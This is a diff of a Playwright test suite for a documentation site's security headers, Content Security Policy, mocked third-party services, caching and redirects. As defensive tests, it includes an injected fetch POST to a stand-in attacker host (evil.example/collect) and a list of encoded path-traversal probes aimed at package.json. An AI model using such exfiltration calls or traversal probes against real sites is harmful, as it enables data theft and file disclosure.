@@ -9,13 +9,12 @@ import {get, type IncomingHttpHeaders} from 'node:http';
 import {tmpdir} from 'node:os';
 import path from 'node:path';
 import {gunzipSync} from 'node:zlib';
-import type {Route} from '@playwright/test';
 import {startNginx} from '../support/nginx';
 import {IMMUTABLE, REVALIDATE} from '../../src/config/headers';
 import {builtRedirects} from '../support/builtSite';
 import {observatory} from '../support/observatory';
 import {expect, NGINX_FILE, open, ROOT, test, type Servers} from './servers';
-import {CORS, follow, fulfill, modeButton, search} from './site';
+import {ALGOLIA, CORS, follow, hostsOf, mockHosts, modeButton, requestsElsewhere, search} from './site';
 
 type Answer = {readonly status: number; readonly headers: IncomingHttpHeaders; readonly body: string};
 
@@ -52,11 +51,7 @@ test.describe('a page in the browser', () => {
     await expect(page.locator('svg style')).toHaveCount(0);
   });
 
-  test('with injected content: blocks injected scripts, handlers, styles, and requests to other hosts', async ({
-    page,
-    servers,
-    expectedErrors,
-  }) => {
+  test('blocks injected scripts, handlers, styles, and foreign requests', async ({page, servers, expectedErrors}) => {
     expectedErrors.push(/Policy violated|Content Security Policy/);
     // Requests that the policy blocks don't reach this handler.
     const reached: string[] = [];
@@ -84,15 +79,10 @@ test.describe('a page in the browser', () => {
       document.body.append(script, external, style, frame, image);
       document.head.append(base);
       await loaded;
-      const isBlocked = (act: () => unknown) =>
-        Promise.resolve()
-          .then(act)
-          .then(
-            () => false,
-            () => true,
-          );
-      const isFetchBlocked = await isBlocked(() => fetch('https://evil.example/collect', {method: 'POST', body: 'x'}));
-      const isEvalBlocked = await isBlocked(() => new Function('return 1')());
+      const [sending, evaluation] = await Promise.allSettled([
+        fetch('https://evil.example/collect', {method: 'POST', body: 'x'}),
+        new Promise((resolve) => resolve(new Function('return 1')())),
+      ]);
       // Violations are reported asynchronously, so trigger a last one and wait for it.
       await new Promise<void>((resolve) => {
         document.addEventListener('securitypolicyviolation', (event) => {
@@ -105,15 +95,15 @@ test.describe('a page in the browser', () => {
         form.submit();
       });
       return {
-        isFetchBlocked,
-        isEvalBlocked,
+        sending: sending.status,
+        evaluation: evaluation.status,
         ran: 'scriptRan' in window || 'handlerRan' in window,
         color: getComputedStyle(document.body).color,
         base: document.baseURI,
         violations: [...new Set(violations)].sort(),
       };
     });
-    expect(outcome).toMatchObject({isFetchBlocked: true, isEvalBlocked: true, ran: false, base: `${servers.plain}/`});
+    expect(outcome).toMatchObject({sending: 'rejected', evaluation: 'rejected', ran: false, base: `${servers.plain}/`});
     expect(outcome.color).not.toBe('rgb(1, 2, 3)');
     expect(outcome.violations).toEqual([
       'base-uri',
@@ -129,71 +119,52 @@ test.describe('a page in the browser', () => {
   });
 });
 
-test.describe('with every external service configured', () => {
-  test('search, widget, and analytics work within the policy', async ({page, servers}) => {
-    const hosts = new Set<string>();
-    const answer = (pattern: string | RegExp, handler: (route: Route) => Promise<void>) =>
-      page.route(pattern, (route) => {
-        hosts.add(new URL(route.request().url()).host);
-        return handler(route);
-      });
-    await answer(/^https:\/\/testappid1[^/]*\.(?:algolia|algolianet)\.(?:net|com)\//, (route) =>
-      route.fulfill({headers: CORS, json: {results: [{hits: [], nbHits: 0}]}}),
-    );
-    // Both mock scripts make the same kinds of requests as the real ones.
-    await answer(
-      'https://www.googletagmanager.com/**',
-      fulfill(`
-        navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
-        new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
-        window.tagScriptRan = true;
-      `),
-    );
-    await answer(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
-    await answer('https://hub.serenitystar.ai/resources/chat.css', fulfill('', '.widget {color: teal}'));
-    await answer('https://hub.serenitystar.ai/resources/logo.svg', (route) =>
-      route.fulfill({contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>'}),
-    );
-    await answer(
-      'https://hub.serenitystar.ai/resources/chat.js',
-      fulfill(`
-        window.AIHubChat = class {
-          constructor(id, options) {
-            this.id = id;
-            this.options = options;
-          }
-          async init() {
-            await fetch(this.options.baseURL + '/v2/agent');
-            const element = document.getElementById(this.id);
-            element.className = 'widget';
-            element.textContent = 'The chat of the provider';
-            const logo = new Image();
-            logo.src = 'https://hub.serenitystar.ai/resources/logo.svg';
-            element.append(logo);
-          }
-        };
-      `),
-    );
-    await answer('https://api.serenitystar.ai/**', (route) => route.fulfill({headers: CORS, json: {}}));
-
-    await open(page, `${servers.hosted}/docs/getting-started/overview`);
-    await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
-    await expect.poll(() => page.evaluate(() => 'tagScriptRan' in window)).toBe(true);
-    await search.open(page, 'activity');
-    await expect(search.dialog(page)).toContainText('No results for');
-    await open(page, `${servers.hosted}/search?q=activity`);
-    await expect(page.getByRole('main')).toContainText('No results for');
-    await expect
-      .poll(() => [...hosts].sort())
-      .toEqual([
-        'api.serenitystar.ai',
-        'hub.serenitystar.ai',
-        'region1.google-analytics.com',
-        'testappid1-dsn.algolia.net',
-        'www.google-analytics.com',
-        'www.googletagmanager.com',
-      ]);
+test('with every external service configured: search, widget, and analytics work', async ({page, servers}) => {
+  const requests = requestsElsewhere(page, servers.hosted);
+  // Both mock scripts make the same kinds of requests as the real ones.
+  await mockHosts(page, {
+    tag: `
+      navigator.sendBeacon('https://region1.google-analytics.com/g/collect?v=2');
+      new Image().src = 'https://www.google-analytics.com/g/collect?v=2';
+    `,
+    chat: `
+      window.AIHubChat = class {
+        constructor(id, options) {
+          Object.assign(this, {id, options});
+        }
+        async init() {
+          await fetch(this.options.baseURL + '/v2/agent');
+          const element = document.getElementById(this.id);
+          element.className = 'widget';
+          element.textContent = 'The chat of the provider';
+          const logo = new Image();
+          logo.src = 'https://hub.serenitystar.ai/resources/logo.svg';
+          element.append(logo);
+        }
+      };
+    `,
+    css: '.widget {color: teal}',
   });
+  await page.route(ALGOLIA, (route) => route.fulfill({headers: CORS, json: {results: [{hits: [], nbHits: 0}]}}));
+  await page.route(/^https:\/\/[^/]*\.google-analytics\.com\//, (route) => route.fulfill({status: 204}));
+  await page.route('https://api.serenitystar.ai/**', (route) => route.fulfill({headers: CORS, json: {}}));
+
+  await open(page, `${servers.hosted}/docs/getting-started/overview`);
+  await expect(page.getByText('The chat of the provider')).toHaveCSS('color', 'rgb(0, 128, 128)');
+  await search.open(page, 'activity');
+  await expect(search.dialog(page)).toContainText('No results for');
+  await open(page, `${servers.hosted}/search?q=activity`);
+  await expect(page.getByRole('main')).toContainText('No results for');
+  await expect
+    .poll(() => hostsOf(requests))
+    .toEqual([
+      'api.serenitystar.ai',
+      'hub.serenitystar.ai',
+      'region1.google-analytics.com',
+      'testappid1-dsn.algolia.net',
+      'www.google-analytics.com',
+      'www.googletagmanager.com',
+    ]);
 });
 
 const SECURITY_HEADERS = {
@@ -214,9 +185,9 @@ function firstMatch(file: string, pattern: RegExp): string {
 const MAIN_SCRIPT = firstMatch('index.html', /\/assets\/js\/main\.[0-9a-f]+\.js/);
 const HTML = /^text\/html; ?charset=utf-8$/;
 
-const KINDS: ReadonlyArray<
-  readonly [kind: string, target: string, status: number, type: RegExp | string, cache: string]
-> = [
+type Kind = readonly [kind: string, target: string, status: number, type: RegExp | string, cache: string];
+
+const KINDS: readonly Kind[] = [
   ['home page', '/', 200, HTML, REVALIDATE],
   ['page', '/docs/billing', 200, HTML, REVALIDATE],
   ['page with a query', '/search?q=a%2fb', 200, HTML, REVALIDATE],
@@ -269,10 +240,7 @@ for (const name of SERVERS) {
       expect((await ask(server, '/docs/billing', {'If-None-Match': headers.etag ?? ''})).status).toBe(304);
     });
 
-    test('answers redirects, trailing slashes, and letters in the wrong case with a 301 to a page of the site', async ({
-      servers,
-      baseURL,
-    }) => {
+    test('answers redirects, trailing slashes, and wrong cases with a 301', async ({servers, baseURL}) => {
       const server = address(servers, baseURL);
       const tool = '/docs/client-library-reference/CLI/create-serenity-app-cli';
       const moved = [
@@ -297,10 +265,7 @@ for (const name of SERVERS) {
       for (const to of new Set(moved.map(([, to = '']) => to))) expect((await ask(server, to)).status, to).toBe(200);
     });
 
-    test('climbing, disguised and doubled slashes are refused, and no redirect leaves the site', async ({
-      servers,
-      baseURL,
-    }) => {
+    test('refuses climbing, disguised, and doubled slashes, and redirects nowhere', async ({servers, baseURL}) => {
       const probes = String.raw`
         /../package.json /docs/../../package.json /.. /docs/.. /%2e%2e/package.json
         /docs/.%2e/.%2e/package.json /..%2f..%2fpackage.json /..%2F..%2Fpackage.json
